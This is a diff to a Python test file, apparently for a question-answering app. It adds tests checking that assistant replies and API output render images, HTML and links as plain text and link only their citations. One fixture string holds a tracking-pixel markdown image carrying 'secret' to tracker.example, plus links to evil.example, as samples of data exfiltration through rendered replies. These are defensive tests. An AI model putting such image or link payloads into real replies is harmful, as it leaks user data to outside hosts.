@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import html
 import re
 import subprocess
 import sys
@@ -160,7 +161,7 @@ def test_follow_ups_read_answers_as_plain_text_without_errors_or_unstarted_answe
     def said(role: str, text: str) -> dict:
         return {"role": role, "content": [{"type": "text", "text": text}], "metadata": None}
 
-    chat = [said("user", "Who bought the network?"), said("assistant", "AT&amp;T bought it [1]."),
+    chat = [said("user", "Who bought the network?"), said("assistant", render.answer_text("AT&T bought it [1].")),
             said("user", "When?"), said("assistant", "**Error:** the since 'x' is not a date"),
             said("user", "Where?"), said("assistant", "_Stopped before the answer began._")]
     turns = app.conversation(chat)
@@ -211,3 +212,38 @@ def test_example_questions_come_from_the_articles_folder_else_from_the_newest_ti
     (tmp_path / "index" / "manifest.json").write_text(__import__("json").dumps(manifest), encoding="utf-8")
     assert app.example_questions(Settings(seeds_dir=folder, index_dir=tmp_path / "index")) == [
         "What does the article 'Bridge opens' report?"]
+
+
+HOSTILE = ("Leaders met in Budapest [1]. ![pixel](http://tracker.example/?q=secret) "
+           '<img src="http://tracker.example/x.png"> [click](https://evil.example) www.evil.example '
+           "https://evil.example/a\n# Heading\n> quote\n1. list *bold* `code` [2].")
+
+
+def links(markdown: str) -> tuple[str, list[str]]:
+    """The HTML a CommonMark renderer makes of the text, and where a GFM renderer (marked, as the page uses)
+    would link or load from: the page's href and src attributes and the bare addresses GFM links itself."""
+    from markdown_it import MarkdownIt
+
+    page = MarkdownIt("commonmark", {"html": True}).render(markdown)
+    return page, re.findall(r'(?:href|src)="([^"]*)"', page) + re.findall(r"(?:https?://|www\.)[^\s<]*", markdown)
+
+
+def test_a_reply_that_asks_for_images_links_and_html_renders_as_text_with_only_its_citations_linked():
+    html_page, addresses = links(render.answer_text(HOSTILE))
+    assert "<img" not in html_page and "<h1" not in html_page and "<blockquote" not in html_page
+    assert "<em>" not in html_page and "<code>" not in html_page and "<ol" not in html_page
+    assert addresses == ["#source-1", "#source-2"]
+    assert "![pixel](http" in html.unescape(re.sub(r"<[^>]+>", "", html_page)).replace("\\", "")  # shown as text
+    assert render.unlinked(render.answer_text(HOSTILE)) == HOSTILE  # the history the library reads is the reply as written
+
+
+def test_the_api_reply_is_inert_markdown_too():
+    from rag.answering.openai_format import content, without_sources
+
+    answer = Answer("Q", HOSTILE, [Citation(1, "Title *with* [a link](http://x.example)", "Wire", "2025-10-21",
+                                            "https://wire.example/story", "passage", 0.9, "a1", 1)])
+    reply = content(answer)
+    html_page, addresses = links(reply)
+    assert "<img" not in html_page and "<em>" not in html_page
+    assert addresses == ["https://wire.example/story"]  # the source's own address, under the answer
+    assert without_sources(reply) == HOSTILE  # a client sending it back gets the answer as written
